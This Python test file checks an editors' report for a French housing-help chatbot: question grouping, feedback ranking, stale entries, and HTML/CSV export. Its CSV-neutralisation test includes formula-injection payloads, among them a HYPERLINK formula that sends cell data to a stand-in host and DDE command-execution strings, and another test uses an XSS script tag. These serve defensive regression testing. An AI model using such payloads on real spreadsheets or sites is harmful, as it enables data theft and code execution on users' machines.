"""The editors' report (`make report`): unanswered questions grouped by similarity, worst feedback,
entries not reviewed for 12 months; HTML and CSV."""

import csv
import datetime as dt
import os
import subprocess
import sys

from bot.knowledge import load_knowledge
from bot.persistence.config import PROJECT_ROOT
from bot.editorial.editors_report import build_report, group_questions, stale_entries, worst_feedback, write_report
from bot.persistence.repository import Repository

KNOWLEDGE = load_knowledge(PROJECT_ROOT / "knowledge")


def rows(*texts):
    return [{"text": t, "decision": "fallback", "candidates": "", "created_at": None} for t in texts]


def test_similar_questions_are_grouped_and_ranked_by_frequency():
    groups = group_questions(rows(
        "c'est quoi le FSL ?", "le fsl c quoi", "C'est quoi le Fsl", "fsl c'est quoi exactement",
        "comment joindre la CAF", "joindre la caf svp",
        "ma voisine fait du bruit"))
    assert [g.count for g in groups] == [4, 2, 1]
    assert "fsl" in groups[0].representative.lower()
    assert all("caf" in t.lower() for t in [groups[1].representative, *groups[1].examples])


def test_grouping_edge_cases():
    assert group_questions([]) == []
    assert [g.count for g in group_questions(rows("seul"))] == [1]
    assert [g.count for g in group_questions(rows("?", "!", "?"))] == [2, 1]


def test_worst_feedback_first():
    feedback = [{"target": "a", "rating": 1}, {"target": "b", "rating": -1, "reason": "incomplete"},
                {"target": "b", "rating": -1, "reason": "incomplete"}, {"target": "b", "rating": 1},
                {"target": "c", "rating": -1, "reason": None}]
    lines = worst_feedback(feedback, {"b": "Fiche B"})
    assert [l.target for l in lines] == ["b", "c", "a"]
    assert lines[0].title == "Fiche B" and lines[0].reasons == {"incomplete": 2} and lines[0].down == 2


def test_entries_older_than_twelve_months_are_listed():
    newest = max(e.reviewed for e in KNOWLEDGE.entries.values())
    for today in (newest + dt.timedelta(days=200), newest + dt.timedelta(days=366)):
        limit = today - dt.timedelta(days=365)
        stale = stale_entries(KNOWLEDGE, today=today)
        assert {s.id for s in stale if s.kind == "fiche"} == {i for i, e in KNOWLEDGE.entries.items()
                                                             if e.reviewed < limit}
        assert all(s.age_days > 365 for s in stale)
    assert {s.id for s in stale if s.kind == "fiche"} == set(KNOWLEDGE.entries)


def test_report_files(tmp_path, sqlite_url):
    repository = Repository.from_url(sqlite_url)
    for text in ["c'est quoi le FSL ?", "le fsl c quoi", "mon mail jean@x.fr <script>alert(1)</script>"]:
        repository.record_unanswered(text, "fallback", 0.1, "rest")
    repository.record_feedback("visale_couple", -1, "rest")
    repository.count_eligibility_check("alin", "non_eligible", "staff")
    report = build_report(repository, KNOWLEDGE, today=dt.date(2099, 1, 1))
    paths = write_report(report, tmp_path / "report")
    html = paths["html"].read_text(encoding="utf-8")
    assert "<script>" not in html and "&lt;script&gt;" in html and "jean@x.fr" not in html
    assert KNOWLEDGE.entries["visale_couple"].title in html and "alin" in html
    with paths["unanswered"].open(encoding="utf-8") as handle:
        table = list(csv.reader(handle, delimiter=";"))
    assert table[1][1] == "2" and "fsl" in table[1][2].lower()
    with paths["stale"].open(encoding="utf-8") as handle:
        assert len(list(csv.reader(handle, delimiter=";"))) == 1 + len(report.stale) > 1


def test_make_report_command(tmp_path, sqlite_url):
    Repository.from_url(sqlite_url).record_unanswered("question inconnue", "fallback", 0.05, "rest")
    env = {**os.environ, "BOT_DATABASE_URL": sqlite_url, "PYTHONPATH": str(PROJECT_ROOT)}
    done = subprocess.run([sys.executable, "-m", "bot.cli.editors_report", "--out", str(tmp_path / "out")], env=env,
                          cwd=PROJECT_ROOT, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    assert "1 question(s) sans réponse en 1 groupe(s)" in done.stdout
    assert {p.name for p in (tmp_path / "out").iterdir()} == {
        "rapport.html", "questions_sans_reponse.csv", "avis.csv", "fiches_a_relire.csv", "parametres_a_confirmer.csv"}


FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1;"aide")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "  =1+1", "＝1+1"]


def test_csv_cells_are_never_formulas(tmp_path, sqlite_url):
    """Issue 15, item 9: a user's question or a feedback target starting with = + - @ (or a tab, a
    carriage return) was written as is, and a spreadsheet opening the CSV ran it."""
    repository = Repository.from_url(sqlite_url)
    for text in FORMULAS:
        repository.record_unanswered(text, "fallback", 0.1, "rest")
        repository.record_feedback(text, -1, "rest")  # a forged target, recorded before the fix
    repository.record_unanswered("-5 € de loyer ?", "fallback", 0.1, "rest")
    report = build_report(repository, KNOWLEDGE, today=dt.date(2099, 1, 1))
    paths = write_report(report, tmp_path / "report")
    cells = []
    for name in ("unanswered", "feedback", "stale"):
        with paths[name].open(encoding="utf-8", newline="") as handle:
            cells += [cell for row in list(csv.reader(handle, delimiter=";"))[1:] for cell in row]
    texts = [cell for cell in cells if cell.strip()]
    assert not [c for c in texts if c.lstrip(" \u00a0")[:1] in ("=", "+", "-", "@", "\t", "\r", "\n", "＝")], texts
    assert "'-5 € de loyer ?" in cells  # shown as text, nothing lost
    assert "'" + FORMULAS[0] in cells
    assert all(cell.isdigit() for cell in cells[1:2])  # counts stay numbers
